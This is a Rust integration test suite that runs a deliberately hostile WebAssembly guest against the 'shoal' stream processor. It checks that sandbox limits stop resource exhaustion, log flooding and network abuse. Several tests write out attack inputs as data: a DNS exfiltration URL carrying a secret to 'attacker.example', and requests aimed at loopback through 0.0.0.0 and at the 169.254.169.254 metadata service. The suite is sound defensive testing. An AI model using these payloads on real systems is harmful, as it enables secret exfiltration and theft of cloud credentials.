//! The hostile-guest suite: a guest that tries cannot harm its host. Each test runs the
//! real binary (`shoal run`, local file source, SQLite leases) with two shards, both on
//! the `hostile` processor: shard 0 attacks its host with one marker record, shard 1 is a
//! victim processing paced batches (10 records, 250 ms each). While shard 0 attacks, the
//! test samples the process (resident memory, open descriptors) and the victim's progress
//! (`shoal_records_processed_total`), and reads what became of the attack from the log
//! (the guest's own report, or the host's trap line). Each test asserts what the attack
//! must not achieve:
//! - the attacking call ends within its deadline plus the wait grace (plus the fetch and
//!   scheduling slack of [`SLACK`]);
//! - the process's resident memory grows by less than the test's stated bound;
//! - its open descriptors grow by no more than `plugin.limits.descriptors` (plus the few
//!   the host itself opens meanwhile, [`HOST_FDS`]);
//! - the victim's batch latency stays within 2× its baseline (measured just before the
//!   attack, in the same process).
//!
//! Each test says which finding it proves; each fails on the code before the limits
//! (`SHOAL_HOSTILE_BINARY=<path to another shoal build>` runs the suite against it).

use std::io::Read;
use std::net::{SocketAddr, TcpListener};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::{Duration, Instant};

use crate::fake_dns::{Answer, FakeDns};
use crate::fixtures::{plugin_path, repo_root};
use crate::http_server::{HttpServer, Mode};
use crate::watchdog::Watchdog;

/// The attacking shard and the victim.
const ATTACKER: &str = "shardId-000000000000";
const VICTIM: &str = "shardId-000000000001";
/// The guest call deadline (`plugin.limits.deadline`) unless a test sets another.
const DEADLINE: Duration = Duration::from_secs(1);
/// How much longer than its deadline a waiting call may run before it is abandoned
/// (`shoal::plugin::instance::WAIT_GRACE`).
const GRACE: Duration = shoal::plugin::instance::WAIT_GRACE;
/// Fetch and scheduling slack between appending the attack and its outcome reaching the
/// log: the idle sleep (100 ms), the fetch floor (200 ms), a loaded 2-core machine.
const SLACK: Duration = Duration::from_millis(1500);
/// Descriptors the host may open itself while a test watches (SQLite's journal, the
/// shard files, a metrics scrape).
const HOST_FDS: usize = 8;
/// The default `plugin.limits.descriptors`.
const DESCRIPTORS: usize = shoal::config::defaults::DESCRIPTORS;
/// The default `plugin.limits.host_memory`, in KiB.
const HOST_MEMORY_KIB: u64 = (shoal::config::defaults::HOST_MEMORY_BYTES / 1024) as u64;
/// How long the victim's progress is measured, before the attack and during it.
const WINDOW: Duration = Duration::from_secs(4);

/// One hostile host at a time: the attacks pin cores and fill tables, and a victim's
/// latency is only comparable to its own baseline when nothing else of this suite runs.
fn one_at_a_time() -> MutexGuard<'static, ()> {
    static LOCK: Mutex<()> = Mutex::new(());
    LOCK.lock().unwrap_or_else(|p| p.into_inner())
}

/// The binary under test.
fn shoal_binary() -> PathBuf {
    std::env::var_os("SHOAL_HOSTILE_BINARY")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_BIN_EXE_shoal")))
}

/// Where the host's log goes.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Stderr {
    /// To a file the test reads.
    File,
    /// To a pipe nobody reads: once its buffer is full, every write to it blocks.
    Blocked,
}

/// How a test's host is set up.
struct Setup<'a> {
    /// Extra `[plugin.sandbox]` lines.
    sandbox: &'a str,
    /// `plugin.limits.deadline`.
    deadline: Duration,
    /// Grant a read-write directory (`/scratch`).
    scratch_dir: bool,
    /// Run under this DNS server as the only resolver.
    dns: Option<&'a FakeDns>,
    stderr: Stderr,
    /// The victim logs one line per batch (a processor that logs as it works).
    victim_logs: bool,
}

impl Default for Setup<'_> {
    fn default() -> Self {
        Self {
            sandbox: "",
            deadline: DEADLINE,
            scratch_dir: false,
            dns: None,
            stderr: Stderr::File,
            victim_logs: false,
        }
    }
}

/// A running hostile host.
struct Host {
    dir: tempfile::TempDir,
    child: Child,
    metrics: String,
    /// Keeps the blocked pipe's read end open (and unread).
    _blocked: Option<std::process::ChildStderr>,
    watchdog: Watchdog,
    deadline: Duration,
}

/// What became of the attack.
#[derive(Debug, Clone)]
enum Outcome {
    /// The guest's report: whether the attack's last WASI call succeeded, and what it said.
    Report { ok: bool, detail: String },
    /// The host trapped the call.
    Trap { kind: String, message: String },
    /// Neither was logged (the guest's report can be over its log rate), but the
    /// attacking batch was processed.
    Processed,
}

/// Everything a test observed.
#[derive(Debug)]
struct Observed {
    /// The attack's outcome, and how long after the record was appended it was logged;
    /// `None` if neither appeared before the test gave up.
    outcome: Option<(Outcome, Duration)>,
    /// Victim records per second before and during the attack.
    base_rate: f64,
    attack_rate: f64,
    /// Resident memory (KiB) just before the attack, and its highest sample during it.
    rss_before_kib: u64,
    rss_peak_kib: u64,
    /// Open descriptors just before the attack, and the most during it.
    fds_before: usize,
    fds_peak: usize,
    /// The process was still running at the end.
    alive: bool,
    /// The attacking call's deadline.
    deadline: Duration,
}

impl Observed {
    fn rss_growth_kib(&self) -> u64 {
        self.rss_peak_kib.saturating_sub(self.rss_before_kib)
    }

    fn fd_growth(&self) -> usize {
        self.fds_peak.saturating_sub(self.fds_before)
    }

    /// The attacking call ended within its deadline plus grace.
    fn assert_call_bounded(&self) {
        let (outcome, after) = self
            .outcome
            .as_ref()
            .unwrap_or_else(|| panic!("the attacking call never ended: {self:#?}"));
        assert!(
            *after <= self.deadline + GRACE + SLACK,
            "the attacking call ended {after:?} after the record arrived, past its deadline {:?} + grace {GRACE:?} (+ {SLACK:?} slack): {outcome:?}",
            self.deadline
        );
    }

    /// The process kept running, its memory grew by less than `kib`, its descriptors by
    /// no more than `fds`.
    fn assert_host_bounded(&self, kib: u64, fds: usize) {
        assert!(self.alive, "the attack killed the host: {self:#?}");
        assert!(
            self.rss_growth_kib() < kib,
            "host memory grew by {} KiB (bound {kib} KiB): {self:#?}",
            self.rss_growth_kib()
        );
        assert!(
            self.fd_growth() <= fds,
            "open descriptors grew by {} (bound {fds}): {self:#?}",
            self.fd_growth()
        );
    }

    /// The victim's batch latency stayed within twice its baseline.
    fn assert_victim_kept_pace(&self) {
        assert!(
            self.base_rate > 0.0,
            "the victim processed nothing before the attack: {self:#?}"
        );
        assert!(
            self.attack_rate >= self.base_rate / 2.0,
            "the victim slowed to {:.1} records/s under attack from {:.1} before (latency more than doubled): {self:#?}",
            self.attack_rate,
            self.base_rate
        );
    }

    fn trap(&self) -> (&str, &str) {
        match &self.outcome {
            Some((Outcome::Trap { kind, message }, _)) => (kind, message),
            other => panic!("expected a trap, got {other:?}"),
        }
    }

    fn report(&self) -> (bool, &str) {
        match &self.outcome {
            Some((Outcome::Report { ok, detail }, _)) => (*ok, detail),
            other => panic!("expected the guest's report, got {other:?}"),
        }
    }
}

impl Host {
    fn start(setup: &Setup<'_>) -> Self {
        let watchdog = Watchdog::arm(Duration::from_secs(240));
        let dir = tempfile::tempdir().expect("tempdir");
        for sub in ["stream", "state", "dead", "scratch"] {
            std::fs::create_dir(dir.path().join(sub)).expect("mkdir");
        }
        std::fs::write(
            dir.path().join(format!("stream/{ATTACKER}.jsonl")),
            record("warm-up"),
        )
        .expect("shard");
        let victim: String = (0..3000).map(|n| record(&format!("1-{n}"))).collect();
        std::fs::write(dir.path().join(format!("stream/{VICTIM}.jsonl")), victim).expect("shard");
        let metrics = crate::operate::free_address();
        let scratch = if setup.scratch_dir {
            "dirs = [{ host = \"scratch\", guest = \"/scratch\", mode = \"read-write\" }]\n"
        } else {
            ""
        };
        let config = dir.path().join("hostile.toml");
        std::fs::write(
            &config,
            format!(
                r#"[engine]
max_instances = 16

[consumer]
application = "hostile"
worker_id = "w"
lease_duration = "10s"
max_records = 10
idle_time_between_reads = "100ms"
shard_sync_interval = "2s"

[source]
kind = "local"
directory = "stream"

[leases]
kind = "sqlite"
path = "state/leases.db"

[plugin]
path = "{plugin}"
watch = false

[plugin.settings]
pace_ms = 250
log_each_batch = "{logs}"

[plugin.sandbox]
{scratch}{sandbox}

[plugin.limits]
memory = "64MiB"
deadline = "{deadline}ms"

[plugin.failure]
max_attempts = 1
poison = "dead-letter"
dead_letter_dir = "dead"

[metrics]
address = "{metrics}"
"#,
                plugin = plugin_path("hostile").display(),
                logs = if setup.victim_logs { "yes" } else { "no" },
                sandbox = setup.sandbox,
                deadline = setup.deadline.as_millis(),
            ),
        )
        .expect("config");
        let mut cmd = match setup.dns {
            Some(dns) => dns.wrap(&shoal_binary()),
            None => Command::new(shoal_binary()),
        };
        cmd.args(["--log-format", "json", "run", "--config"])
            .arg(&config)
            .current_dir(dir.path())
            .env(
                "SHOAL_CACHE_DIR",
                repo_root().join("target/shoal-test-cache"),
            )
            .env("RUST_LOG", "info")
            .stdout(Stdio::null());
        match setup.stderr {
            Stderr::File => {
                let log = std::fs::File::create(dir.path().join("host.log")).expect("log");
                cmd.stderr(log);
            }
            Stderr::Blocked => {
                cmd.stderr(Stdio::piped());
            }
        }
        let mut child = cmd.spawn().expect("spawn shoal");
        watchdog.add_pid(child.id());
        let blocked = child.stderr.take();
        let mut host = Self {
            dir,
            child,
            metrics,
            _blocked: blocked,
            watchdog,
            deadline: setup.deadline,
        };
        host.watchdog.step("waiting for the victim's first batches");
        let started = Instant::now();
        while host.victim_records() < 20.0 {
            assert!(
                started.elapsed() < Duration::from_secs(60),
                "the victim processed nothing within 60 s\n{}",
                host.log_tail()
            );
            assert!(host.alive(), "shoal exited at start\n{}", host.log_tail());
            std::thread::sleep(Duration::from_millis(100));
        }
        host
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }

    fn alive(&mut self) -> bool {
        matches!(self.child.try_wait(), Ok(None))
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("host.log")).unwrap_or_default()
    }

    fn log_tail(&self) -> String {
        let log = self.log();
        let lines: Vec<&str> = log.lines().collect();
        lines[lines.len().saturating_sub(30)..].join("\n")
    }

    /// `shoal_records_processed_total` of the victim (0 before its first batch).
    fn victim_records(&self) -> f64 {
        self.metric("shoal_records_processed_total", VICTIM)
            .unwrap_or(0.0)
    }

    /// `shoal_records_processed_total` of the attacking shard.
    fn attacker_records(&self) -> f64 {
        self.metric("shoal_records_processed_total", ATTACKER)
            .unwrap_or(0.0)
    }

    /// The value of the first series of `name` whose labels mention `label`.
    fn metric(&self, name: &str, label: &str) -> Option<f64> {
        let text = scrape(&self.metrics)?;
        text.lines()
            .filter(|l| l.starts_with(&format!("{name}{{")) || l.starts_with(&format!("{name} ")))
            .find(|l| l.contains(label))
            .and_then(|l| l.rsplit(' ').next())
            .and_then(|v| v.parse().ok())
    }

    fn rss_kib(&self) -> u64 {
        std::fs::read_to_string(format!("/proc/{}/status", self.pid()))
            .ok()
            .and_then(|s| {
                s.lines()
                    .find(|l| l.starts_with("VmRSS:"))
                    .and_then(|l| l.split_whitespace().nth(1))
                    .and_then(|v| v.parse().ok())
            })
            .unwrap_or(0)
    }

    fn fds(&self) -> usize {
        std::fs::read_dir(format!("/proc/{}/fd", self.pid()))
            .map(|d| d.count())
            .unwrap_or(0)
    }

    /// Append records to the attacking shard.
    fn attack_with(&self, records: &[String]) {
        use std::io::Write;
        let mut f = std::fs::OpenOptions::new()
            .append(true)
            .open(self.dir.path().join(format!("stream/{ATTACKER}.jsonl")))
            .expect("open shard");
        let text: String = records.iter().map(|r| record(r)).collect();
        f.write_all(text.as_bytes()).expect("append");
    }

    /// The outcome of the attack named `name` in the log from byte `from` on.
    fn outcome(&self, name: &str, from: usize) -> Option<Outcome> {
        let log = self.log();
        let report = format!("hostile-report: {name} ");
        for line in log.get(from..)?.lines() {
            if !line.contains(ATTACKER) {
                continue;
            }
            let Ok(v) = serde_json::from_str::<serde_json::Value>(line) else {
                continue;
            };
            let message = v["fields"]["message"].as_str().unwrap_or("");
            if let Some(rest) = message.strip_prefix(&report) {
                return Some(Outcome::Report {
                    ok: rest.starts_with("ok "),
                    detail: rest.to_string(),
                });
            }
            if message.starts_with("guest trapped") {
                return Some(Outcome::Trap {
                    kind: v["fields"]["trap"].as_str().unwrap_or("").to_string(),
                    message: message.to_string(),
                });
            }
        }
        None
    }

    /// Baseline, then the attack: sample the process while `records` are processed, for
    /// at least `WINDOW` and at most `give_up`.
    fn observe(&mut self, name: &str, records: &[String], give_up: Duration) -> Observed {
        self.watchdog.step("baseline");
        let (mut rss_before, mut fds_before) = (u64::MAX, usize::MAX);
        let base_from = self.victim_records();
        let base_started = Instant::now();
        while base_started.elapsed() < WINDOW {
            rss_before = rss_before.min(self.rss_kib());
            fds_before = fds_before.min(self.fds());
            std::thread::sleep(Duration::from_millis(100));
        }
        let base_rate = (self.victim_records() - base_from) / base_started.elapsed().as_secs_f64();

        self.watchdog.step(format!("attack {name}"));
        let log_from = self.log().len();
        let attack_from = self.victim_records();
        let attacker_from = self.attacker_records();
        let attacked = Instant::now();
        self.attack_with(records);
        let (mut rss_peak, mut fds_peak) = (0, 0);
        let mut outcome = None;
        let mut alive = true;
        loop {
            rss_peak = rss_peak.max(self.rss_kib());
            fds_peak = fds_peak.max(self.fds());
            if outcome.is_none() {
                outcome = self
                    .outcome(name, log_from)
                    .map(|o| (o, attacked.elapsed()));
            }
            if outcome.is_none() && self.attacker_records() > attacker_from {
                // Processed: give its report (or trap) line a moment to appear.
                std::thread::sleep(Duration::from_millis(200));
                outcome = Some((
                    self.outcome(name, log_from).unwrap_or(Outcome::Processed),
                    attacked.elapsed(),
                ));
            }
            if !self.alive() {
                alive = false;
                break;
            }
            let elapsed = attacked.elapsed();
            if elapsed >= give_up || (outcome.is_some() && elapsed >= WINDOW) {
                break;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        let attack_rate = (self.victim_records() - attack_from) / attacked.elapsed().as_secs_f64();
        // One line per attack, shown with `--nocapture`: the figures of docs/RELIABILITY.md.
        println!(
            "hostile {name}: {} after {}; host memory +{} MiB, descriptors +{}; victim {base_rate:.1} -> {attack_rate:.1} records/s{}",
            match &outcome {
                Some((Outcome::Report { detail, .. }, _)) => format!("report `{detail}`"),
                Some((Outcome::Trap { kind, .. }, _)) => format!("trap {kind}"),
                Some((Outcome::Processed, _)) => "processed".to_string(),
                None => "no outcome".to_string(),
            },
            outcome.as_ref().map_or_else(
                || format!("{give_up:?} (gave up)"),
                |(_, after)| format!("{:.2} s", after.as_secs_f64())
            ),
            rss_peak.saturating_sub(rss_before) / 1024,
            fds_peak.saturating_sub(fds_before),
            if alive { "" } else { "; the host DIED" }
        );
        Observed {
            outcome,
            base_rate,
            attack_rate,
            rss_before_kib: rss_before,
            rss_peak_kib: rss_peak,
            fds_before,
            fds_peak,
            alive,
            deadline: self.deadline,
        }
    }
}

impl Drop for Host {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// One local-source record line with `data`.
fn record(data: &str) -> String {
    format!(
        "{}\n",
        serde_json::json!({ "partition_key": "k", "data": data })
    )
}

/// `GET /metrics`, or `None` if nothing answered.
fn scrape(address: &str) -> Option<String> {
    crate::operate::get(address, "/metrics").map(|(_, body)| body)
}

/// One attack on a fresh host: start, baseline, attack, observe.
fn attack(setup: &Setup<'_>, name: &str, records: &[String]) -> Observed {
    let mut host = Host::start(setup);
    host.observe(name, records, Duration::from_secs(30))
}

/// Finding: a slow host call escaped the deadline. One direct `write` of 1 MiB of
/// newlines to stdout used to be accepted past its 64 KiB permit and split in quadratic
/// time inside one host call no deadline could interrupt (5.4 s on a release build with a
/// 1 s deadline). Now the write past the permit traps at once, and the host is unharmed.
#[test]
fn a_write_past_its_permit_traps_at_once_instead_of_holding_the_call() {
    let _serial = one_at_a_time();
    let seen = attack(
        &Setup::default(),
        "stdout-newlines",
        &["hostile:stdout-newlines:1048576".into()],
    );
    seen.assert_call_bounded();
    let (kind, message) = seen.trap();
    assert_eq!(kind, "host-refused", "{message}");
    assert!(
        message.contains("past the stream's check-write permit of 65536 bytes"),
        "{message}"
    );
    seen.assert_host_bounded(32 << 10, HOST_FDS);
    seen.assert_victim_kept_pace();
}

/// Finding: host memory outside `plugin.limits.memory`. A guest with no grants at all
/// could make HTTP requests with bodies it never sent, each buffering 2 MiB on the host
/// (200 of them grew the host by ~400 MiB under a 32 MiB guest cap). Now no wasi:http
/// resource exists without an `http` grant: the first one traps.
#[test]
fn without_an_http_grant_no_http_resource_exists() {
    let _serial = one_at_a_time();
    let seen = attack(
        &Setup::default(),
        "http-bodies",
        &["hostile:http-bodies:200".into()],
    );
    seen.assert_call_bounded();
    let (kind, message) = seen.trap();
    assert_eq!(kind, "host-refused", "{message}");
    assert!(message.contains("plugin.sandbox.http"), "{message}");
    seen.assert_host_bounded(32 << 10, HOST_FDS);
    seen.assert_victim_kept_pace();
}

/// Finding: host memory outside `plugin.limits.memory`, with a grant. Unsent request
/// bodies and `fields` maps count against `plugin.limits.host_memory` (16 MiB by default):
/// 200 bodies filled to their permit, or 2,000 maps of 60 KiB, are refused once the
/// instance holds its budget, and the host grows by about that much, not by hundreds of
/// MiB.
#[test]
fn with_an_http_grant_bodies_and_fields_stop_at_host_memory() {
    let _serial = one_at_a_time();
    let granted = Setup {
        sandbox: "http = [\"http://127.0.0.1:9\"]\n",
        ..Setup::default()
    };
    for (name, marker) in [
        ("http-bodies", "hostile:http-bodies:200"),
        ("fields", "hostile:fields:2000"),
    ] {
        let seen = attack(&granted, name, &[marker.into()]);
        seen.assert_call_bounded();
        let (kind, message) = seen.trap();
        assert_eq!(kind, "host-refused", "{name}: {message}");
        assert!(
            message.contains("plugin.limits.host_memory"),
            "{name}: {message}"
        );
        // The budget itself, the guest's own memory (64 MiB cap; it uses a few), noise.
        seen.assert_host_bounded(HOST_MEMORY_KIB + (24 << 10), HOST_FDS);
        seen.assert_victim_kept_pace();
    }
}

/// Finding: file descriptors. With any TCP grant, a guest could create sockets without
/// limit (19,988 in one batch, every descriptor the process could open), after which
/// everything the host opened failed with EMFILE. Now an instance holds at most
/// `plugin.limits.descriptors` (32): the next socket is `new-socket-limit`.
#[test]
fn sockets_stop_at_the_descriptor_limit() {
    let _serial = one_at_a_time();
    let seen = attack(
        &Setup {
            sandbox: "tcp = [\"127.0.0.1:9\"]\n",
            ..Setup::default()
        },
        "sockets",
        &["hostile:sockets:5000".into()],
    );
    seen.assert_call_bounded();
    let (ok, detail) = seen.report();
    assert!(!ok && detail.contains("new-socket-limit"), "{detail}");
    assert!(
        detail.contains(&format!("socket {DESCRIPTORS}:")),
        "{detail}"
    );
    seen.assert_host_bounded(32 << 10, DESCRIPTORS + HOST_FDS);
    seen.assert_victim_kept_pace();
}

/// Finding: file descriptors, through files. With a directory grant, a guest could open
/// files without limit. Now the 33rd is `quota`.
#[test]
fn open_files_stop_at_the_descriptor_limit() {
    let _serial = one_at_a_time();
    let seen = attack(
        &Setup {
            scratch_dir: true,
            ..Setup::default()
        },
        "files",
        &["hostile:files:2000".into()],
    );
    seen.assert_call_bounded();
    let (ok, detail) = seen.report();
    assert!(!ok && detail.contains("\"quota\""), "{detail}");
    // The granted directory is the instance's own (one descriptor however many handles
    // on it the guest asks for): 32 files, then refused.
    assert!(detail.contains(&format!("file {DESCRIPTORS}:")), "{detail}");
    seen.assert_host_bounded(32 << 10, DESCRIPTORS + HOST_FDS);
    seen.assert_victim_kept_pace();
}

/// A server that accepts connections and never answers, counting those still open.
struct SilentServer {
    addr: SocketAddr,
    open: Arc<AtomicUsize>,
    accepted: Arc<AtomicUsize>,
}

impl SilentServer {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        let addr = listener.local_addr().expect("addr");
        let open = Arc::new(AtomicUsize::new(0));
        let accepted = Arc::new(AtomicUsize::new(0));
        let (o, a) = (Arc::clone(&open), Arc::clone(&accepted));
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                o.fetch_add(1, Ordering::SeqCst);
                a.fetch_add(1, Ordering::SeqCst);
                let o = Arc::clone(&o);
                std::thread::spawn(move || {
                    let mut stream = stream;
                    let mut buf = [0u8; 4096];
                    // Read (and ignore) until the client closes.
                    while matches!(stream.read(&mut buf), Ok(n) if n > 0) {}
                    o.fetch_sub(1, Ordering::SeqCst);
                });
            }
        });
        Self {
            addr,
            open,
            accepted,
        }
    }
}

/// Finding: connections went on after the call. Each `handle` spawned a send task and a
/// connection with no cap, and they went on after the guest call returned (until their
/// own timeouts, up to the deadline later). Now at most `descriptors` requests are in
/// flight per instance (the next is `connection-limit-reached`), and when the call that
/// started them returns, their connections close.
#[test]
fn requests_are_capped_and_end_with_the_call_that_started_them() {
    let _serial = one_at_a_time();
    let server = SilentServer::start();
    let url = format!("http://{}/hang", server.addr);
    let setup = Setup {
        sandbox: &format!("http = [\"http://{}\"]\n", server.addr),
        // A long deadline: requests left behind by the call would stay open this long.
        deadline: Duration::from_secs(20),
        ..Setup::default()
    };
    let mut host = Host::start(&setup);
    let seen = host.observe(
        "http-requests",
        &[format!("hostile:http-requests:200:{url}")],
        Duration::from_secs(30),
    );
    seen.assert_call_bounded();
    let (ok, detail) = seen.report();
    assert!(!ok && detail.contains("ConnectionLimitReached"), "{detail}");
    assert!(
        detail.contains(&format!("request {DESCRIPTORS}:")),
        "{detail}"
    );
    let accepted = server.accepted.load(Ordering::SeqCst);
    assert!(
        (1..=DESCRIPTORS).contains(&accepted),
        "{accepted} connections reached the server (the guest waited for them to connect)"
    );
    // The call has returned (its report is logged): its connections are closed.
    let closed_by = Instant::now() + Duration::from_secs(2);
    while server.open.load(Ordering::SeqCst) > 0 {
        assert!(
            Instant::now() < closed_by,
            "{} connections still open after the call that made them returned",
            server.open.load(Ordering::SeqCst)
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    seen.assert_host_bounded(32 << 10, DESCRIPTORS + HOST_FDS);
    seen.assert_victim_kept_pace();
}

/// Finding: lookups leaked. Under an address entry (`http://127.0.0.1:PORT`) the HTTP
/// sender used to resolve any requested name before refusing it, so
/// `http://<secret>.attacker.example/` carried the secret out through the system
/// resolver. Now no query leaves the host for a name no entry names: the DNS server the
/// host uses sees nothing, and the guest gets `HTTP-request-denied`.
#[test]
fn a_name_no_entry_names_is_never_looked_up() {
    let _serial = one_at_a_time();
    let dns = FakeDns::start(Answer::With("127.0.0.1".parse().expect("ip")));
    let server = HttpServer::start(Mode::Ok);
    let mut host = Host::start(&Setup {
        sandbox: &format!(
            "http = [\"http://127.0.0.1:{}\"]\ntcp = [\"*.dnscheck.example:80\"]\n",
            server.addr.port()
        ),
        dns: Some(&dns),
        ..Setup::default()
    });
    let seen = host.observe(
        "http-get",
        &[format!(
            "hostile:http-get:http://secret-73686f616c.attacker.example:{}/",
            server.addr.port()
        )],
        Duration::from_secs(30),
    );
    seen.assert_call_bounded();
    let (ok, detail) = seen.report();
    assert!(!ok && detail.contains("HttpRequestDenied"), "{detail}");
    let leaked: Vec<String> = dns
        .queries()
        .into_iter()
        .filter(|q| q.contains("secret"))
        .collect();
    assert!(
        leaked.is_empty(),
        "queries reached the resolver at {}: {leaked:?}",
        dns.address()
    );
    assert!(server.received().is_empty(), "a request reached the server");
    seen.assert_host_bounded(32 << 10, HOST_FDS);
    // The same host's lookup of a granted name does reach this resolver: the silence
    // above is the host's, not a resolver it bypassed.
    host.observe(
        "lookups",
        &["hostile:lookups:1:dnscheck.example".into()],
        Duration::from_secs(30),
    );
    let settled = Instant::now() + Duration::from_secs(5);
    while !dns.queries().iter().any(|q| q == "n0.dnscheck.example") {
        assert!(
            Instant::now() < settled,
            "a granted lookup never reached the test's resolver: {:?}",
            dns.queries()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Finding: lookups starved other shards. Lookups ran on the blocking pool that runs
/// every shard's guest calls, with no timeout and no cap: one shard starting 600 lookups
/// of names its grant covers, against a resolver that never answers, filled the pool
/// (512 threads, each held 20 s) and every other shard's next call queued behind them.
/// Now lookups have threads of their own, two per instance: the victim keeps its pace.
#[test]
fn a_flood_of_slow_lookups_does_not_delay_another_shard() {
    let _serial = one_at_a_time();
    let dns = FakeDns::start(Answer::Silent);
    let seen = attack(
        &Setup {
            sandbox: "tcp = [\"*.slow.example:80\"]\n",
            dns: Some(&dns),
            ..Setup::default()
        },
        "lookups",
        &["hostile:lookups:600:slow.example".into()],
    );
    seen.assert_call_bounded();
    let (ok, detail) = seen.report();
    assert!(ok, "{detail}");
    assert!(
        !dns.queries().is_empty(),
        "no lookup reached the resolver: the test proves nothing"
    );
    seen.assert_host_bounded(32 << 10, DESCRIPTORS + HOST_FDS);
    seen.assert_victim_kept_pace();
}

/// Finding: a name grant whose DNS a third party controls could point at the unspecified
/// address (which Linux connects to loopback, reaching this host's own services) or at
/// the instance metadata service. Now a resolved guarded address is refused unless an
/// entry names exactly it: the guest gets `HTTP-request-denied` and the local server
/// sees nothing.
#[test]
fn a_granted_name_that_resolves_to_a_guarded_address_is_refused() {
    let _serial = one_at_a_time();
    let dns = FakeDns::start(Answer::With("0.0.0.0".parse().expect("ip")));
    let server = HttpServer::start(Mode::Ok);
    let seen = attack(
        &Setup {
            sandbox: &format!(
                "http = [\"http://*.rebind.example:{}\"]\n",
                server.addr.port()
            ),
            dns: Some(&dns),
            ..Setup::default()
        },
        "http-get",
        &[format!(
            "hostile:http-get:http://api.rebind.example:{}/",
            server.addr.port()
        )],
    );
    seen.assert_call_bounded();
    let (ok, detail) = seen.report();
    assert!(!ok && detail.contains("HttpRequestDenied"), "{detail}");
    assert!(
        dns.queries().iter().any(|q| q == "api.rebind.example"),
        "the granted name was not looked up: the test proves nothing"
    );
    assert!(
        server.received().is_empty(),
        "the request reached this host's loopback through 0.0.0.0"
    );
}

/// Finding: address grants. `http://*:PORT` with `allow_any_host` covered the unspecified
/// address (loopback on Linux) and the metadata service. Now they need an entry naming
/// exactly them: both are refused at once with `HTTP-request-denied`.
#[test]
fn unspecified_and_metadata_addresses_need_an_exact_entry() {
    let _serial = one_at_a_time();
    let server = HttpServer::start(Mode::Ok);
    let port = server.addr.port();
    let setup = Setup {
        sandbox: &format!("allow_any_host = true\nhttp = [\"http://*:{port}\", \"http://*:80\"]\n"),
        ..Setup::default()
    };
    let mut host = Host::start(&setup);
    for url in [
        format!("http://0.0.0.0:{port}/"),
        "http://169.254.169.254:80/latest/meta-data/".to_string(),
    ] {
        let seen = host.observe(
            "http-get",
            &[format!("hostile:http-get:{url}")],
            Duration::from_secs(15),
        );
        seen.assert_call_bounded();
        let (ok, detail) = seen.report();
        assert!(
            !ok && detail.contains("HttpRequestDenied"),
            "{url}: {detail}"
        );
    }
    assert!(
        server.received().is_empty(),
        "the request reached this host's loopback through 0.0.0.0"
    );
}

/// The host's log lines from the attacking shard's guest.
fn guest_lines_of_attacker(log: &str) -> usize {
    log.lines()
        .filter(|l| l.contains(ATTACKER) && l.contains("\"target\":\"shoal::guest\""))
        .count()
}

/// Finding: log flooding. `log`, stdout and refusal warnings had no rate limit (and the
/// refusal de-duplication was cleared every 256 entries): tens of thousands of lines
/// reached the log from one call. Now an instance logs at most its burst (1,000) plus 100
/// lines a second, the rest counted and said in one line; and warns of 64 distinct
/// refusals at most.
#[test]
fn log_lines_are_rate_limited_per_instance() {
    let _serial = one_at_a_time();
    let mut host = Host::start(&Setup::default());
    for (name, marker) in [
        ("log-lines", "hostile:log-lines:200000"),
        ("print-lines", "hostile:print-lines:200000"),
        ("refused-lookups", "hostile:refused-lookups:20000"),
    ] {
        let before = guest_lines_of_attacker(&host.log())
            + host
                .log()
                .lines()
                .filter(|l| l.contains(ATTACKER) && l.contains("shoal::sandbox"))
                .count();
        let attacked = Instant::now();
        let log_from = host.log().len();
        let seen = host.observe(name, &[marker.into()], Duration::from_secs(30));
        seen.assert_call_bounded();
        let log = host.log();
        let after = guest_lines_of_attacker(&log)
            + log
                .lines()
                .filter(|l| l.contains(ATTACKER) && l.contains("shoal::sandbox"))
                .count();
        let allowed = 1000 + 100 * (attacked.elapsed().as_secs() as usize + 1) + 10;
        assert!(
            after - before <= allowed,
            "{name}: {} lines logged, more than the burst plus the rate allow ({allowed})",
            after - before
        );
        // Past the burst, each flood is summarised in its own line; the refusal warnings
        // stop earlier, at 64 distinct ones (the rest go to debug level).
        if name != "refused-lookups" {
            assert!(
                log[log_from..].contains("guest log lines suppressed: over plugin.limits.log_rate"),
                "{name}: no suppressed-lines summary"
            );
        }
        seen.assert_victim_kept_pace();
    }
    let suppressed = host
        .metric("shoal_guest_log_lines_suppressed_total", "")
        .expect("metric");
    assert!(suppressed > 100_000.0, "{suppressed}");
}

/// Finding: a blocked log sink. Logs were written synchronously to stderr, so a stderr
/// nobody reads (a full pipe, a stuck log shipper) blocked every thread that logged: a
/// shard whose processor logs a line per batch stalled, and so did its neighbour. Now
/// lines go through a bounded queue (dropped and counted when it is full): while the log
/// pipe is full and nothing reads it, the attacker's batch completes and the victim keeps
/// its pace.
#[test]
fn a_log_output_nobody_reads_does_not_block_guest_calls() {
    let _serial = one_at_a_time();
    let mut host = Host::start(&Setup {
        stderr: Stderr::Blocked,
        victim_logs: true,
        ..Setup::default()
    });
    let seen = host.observe(
        "print-lines",
        &["hostile:print-lines:100000".into()],
        Duration::from_secs(12),
    );
    // The log cannot be read: the attack's end is seen by its batch being processed.
    seen.assert_call_bounded();
    seen.assert_host_bounded(32 << 10, HOST_FDS);
    seen.assert_victim_kept_pace();
    let buffered = host
        ._blocked
        .as_ref()
        .map(|pipe| rustix::io::ioctl_fionread(pipe).expect("FIONREAD"))
        .unwrap_or(0);
    assert!(
        buffered >= 60 << 10,
        "only {buffered} bytes wait in the log pipe: it was never full, the test proves nothing"
    );
}

/// Others found: a file stream accepted a write of any length past its 64 KiB permit
/// (the whole buffer copied to the host and written by one blocking job); the table of
/// resources allowed a million entries (a guest's pollables grew the host without
/// bound); `poll` took any list length; `get-random-bytes` returned 64 MiB per call.
/// Each is now refused: a trap `host-refused` (table full, permit, poll list) or the
/// random-size trap.
#[test]
